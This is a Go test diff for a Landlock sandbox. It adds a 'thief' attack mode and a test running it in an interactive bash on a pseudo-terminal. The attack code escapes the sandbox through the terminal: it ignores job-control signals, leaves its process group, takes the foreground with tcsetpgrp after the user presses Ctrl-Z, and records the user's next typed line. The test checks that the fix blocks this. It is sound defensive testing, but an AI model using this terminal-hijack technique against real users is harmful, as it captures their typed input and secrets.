@@ -51,6 +51,10 @@ func init() {
 		os.Exit(attackSocketpair())
 	case "shell":
 		os.Exit(fakeShell())
+	case "thief":
+		os.Exit(attackThief())
+	case "thief-child":
+		os.Exit(attackThiefChild())
 	}
 }
 
@@ -711,5 +715,150 @@ func TestLandlockAttackSocketpairTypes(t *testing.T) {
 			n, _, rerr = unix.Recvfrom(int(fd), make([]byte, 64), unix.MSG_DONTWAIT)
 		}))
 		assert.ErrorIs(t, rerr, unix.EAGAIN, "a datagram reached the socket outside the sandbox (%d bytes)", n)
+	})
+}
+
+// attackThief is the second review's thief: it starts attackThiefChild and waits for it.
+func attackThief() int {
+	self, err := os.Executable()
+	if err != nil {
+		fmt.Printf("fork: %v\n", err)
+		return 1
+	}
+	child := exec.Command(self)
+	child.Env = append(os.Environ(), "SESSIONFS_E2E_ATTACK=thief-child", fmt.Sprintf("ATTACK_PARENT=%d", os.Getpid()))
+	child.Stdin, child.Stdout, child.Stderr = os.Stdin, os.Stdout, os.Stderr
+	if err := child.Run(); err != nil {
+		fmt.Printf("thief: %v\n", err)
+	}
+	return 0
+}
+
+// attackThiefChild ignores the terminal's job-control signals and SIGHUP, leaves its parent's process group
+// (still in its terminal's session), and, with ATTACK_WAIT=stop, waits until its parent is stopped (the user's
+// Ctrl-Z: the shell takes its terminal back); then makes its own group the terminal's foreground (tcsetpgrp) and
+// reads what is typed next, into "stolen" in its working folder, each step reported in "took". An attacker that
+// lost gives up: it reads for a few seconds at most, then ends its parent, and so the run.
+func attackThiefChild() int {
+	report := func(format string, a ...any) {
+		if f, err := os.OpenFile("took", os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644); err == nil {
+			fmt.Fprintf(f, format+"\n", a...)
+			f.Close()
+		}
+	}
+	signal.Ignore(syscall.SIGTTOU, syscall.SIGTTIN, syscall.SIGHUP, syscall.SIGTSTP)
+	report("setpgid: %v", unix.Setpgid(0, 0))
+	parent, _ := strconv.Atoi(os.Getenv("ATTACK_PARENT"))
+	defer func() { _ = unix.Kill(parent, unix.SIGKILL) }()
+	fmt.Println("thief is " + "waiting") // not as typed on the command line
+	if os.Getenv("ATTACK_WAIT") == "stop" {
+		stopped := func() bool {
+			stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", parent))
+			i := bytes.LastIndexByte(stat, ')')
+			return err == nil && i > 0 && i+2 < len(stat) && stat[i+2] == 'T'
+		}
+		for deadline := time.Now().Add(5 * time.Second); !stopped(); time.Sleep(5 * time.Millisecond) {
+			if time.Now().After(deadline) {
+				report("the parent was never stopped")
+				return 1
+			}
+		}
+		report("the parent is stopped")
+	}
+	report("tcsetpgrp: %v", unix.IoctlSetPointerInt(0, unix.TIOCSPGRP, unix.Getpgrp()))
+	var line []byte
+	buf := make([]byte, 256)
+	for deadline := time.Now().Add(3 * time.Second); !bytes.Contains(line, []byte("\n")); {
+		left := time.Until(deadline)
+		if left <= 0 {
+			break
+		}
+		fds := []unix.PollFd{{Fd: 0, Events: unix.POLLIN}}
+		if n, err := unix.Poll(fds, int(left.Milliseconds())+1); err != nil || n == 0 {
+			continue
+		}
+		n, err := unix.Read(0, buf)
+		if n <= 0 || err != nil {
+			report("read: %d %v", n, err)
+			break
+		}
+		line = append(line, buf[:n]...)
+	}
+	_ = os.WriteFile("stolen", line, 0o644)
+	report("read %q", line)
+	return 0
+}
+
+// TestLandlockAttackSuspendTakeover: the second review's finding, with a real interactive bash on a real pty.
+// The sandboxed command forks a thief that ignores SIGTTOU, SIGTTIN, SIGHUP and SIGTSTP and leaves its process
+// group; the user presses Ctrl-Z (before the fix bash printed "Stopped" and its prompt), the thief makes its
+// group the terminal's foreground and reads the user's next line. And the run started in the background (&),
+// where the thief takes the terminal at once. Bash must read the line the user types at its prompt, and the
+// thief must not. As root on the store and through the mount.
+func TestLandlockAttackSuspendTakeover(t *testing.T) {
+	bash, err := exec.LookPath("bash")
+	need(t, err == nil, "bash")
+	attack := func(t *testing.T, lt landlockTarget, background bool) {
+		attacker := lt.attacker(t)
+		ws := filepath.Join(lt.session, "workspace")
+		for _, f := range []string{"took", "stolen"} {
+			require.NoError(t, os.RemoveAll(filepath.Join(ws, f)))
+		}
+		master, slave := openPty(t)
+		defer master.Close()
+		mark := fmt.Sprintf("SESSIONFS_E2E_RUN=%d-%d", os.Getpid(), runMarks.Add(1))
+		sh := exec.Command(bash, "--norc", "--noprofile", "-i")
+		sh.Env = append(os.Environ(), "PS1=PROMPT> ", "SESSIONFS_STORE="+lt.store, mark)
+		sh.Stdin, sh.Stdout, sh.Stderr = slave, slave, slave
+		sh.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
+		require.NoError(t, sh.Start())
+		slave.Close()
+		defer func() {
+			killAll(processesWithEnv(mark))
+			_ = sh.Process.Kill()
+			_ = sh.Wait()
+		}()
+		screen := &syncBuffer{}
+		go func() { _, _ = io.Copy(screen, eioReader{master}) }()
+		prompts := func() int { return strings.Count(screen.String(), "PROMPT> ") }
+		eventually(t, 20*time.Second, func() bool { return prompts() >= 1 }, "no prompt: the terminal shows %q", screen)
+		line := fmt.Sprintf("%s exec s1 --landlock -e SESSIONFS_E2E_ATTACK=thief -e ATTACK_WAIT=stop -- %s", bin, attacker)
+		if background {
+			line = fmt.Sprintf("%s exec s1 --landlock -e SESSIONFS_E2E_ATTACK=thief -- %s &", bin, attacker)
+		}
+		_, err := master.WriteString(line + "\n")
+		require.NoError(t, err)
+		took := func() string { b, _ := os.ReadFile(filepath.Join(ws, "took")); return string(b) }
+		shown := prompts()
+		if background {
+			// It takes the terminal at once: the user types at the prompt bash printed after the job's number.
+			eventually(t, 30*time.Second, func() bool { return strings.Contains(took(), "tcsetpgrp: ") }, "the thief never ran")
+		} else {
+			eventually(t, 30*time.Second, func() bool { return strings.Contains(screen.String(), "thief is waiting") },
+				"the thief never ran: the terminal shows %q", screen)
+			_, err = master.WriteString("\x1a") // Ctrl-Z
+			require.NoError(t, err)
+			// The user types at bash's prompt: once the run is suspended (before the fix), or has ended (the
+			// thief, never stopped, gives up); and the thief has done its worst.
+			eventually(t, 30*time.Second, func() bool { return prompts() > shown }, "no prompt again: the terminal shows %q", screen)
+			eventually(t, 30*time.Second, func() bool {
+				return strings.Contains(took(), "tcsetpgrp: ") || strings.Contains(took(), "never stopped")
+			},
+				"the thief never reported")
+		}
+		_, err = master.WriteString("echo got-$((6*7))-secret-1\n")
+		require.NoError(t, err)
+		bashRead := waitFor(func() bool { return strings.Contains(screen.String(), "got-42-secret-1") })
+		if background { // the thief that lost gives up: its report is complete
+			waitFor(func() bool { return strings.Contains(took(), "read ") })
+		}
+		stolen, _ := os.ReadFile(filepath.Join(ws, "stolen"))
+		t.Logf("the thief reported %q and read %q; the terminal shows %q", took(), stolen, screen)
+		assert.True(t, bashRead, "bash did not read the line the user typed at its prompt")
+		assert.NotContains(t, string(stolen), "secret-1", "the sandbox read what the user typed into the shell")
+	}
+	eachLandlockPath(t, func(t *testing.T, lt landlockTarget) {
+		t.Run("ctrl-z", func(t *testing.T) { attack(t, lt, false) })
+		t.Run("background", func(t *testing.T) { attack(t, lt, true) })
 	})
 }
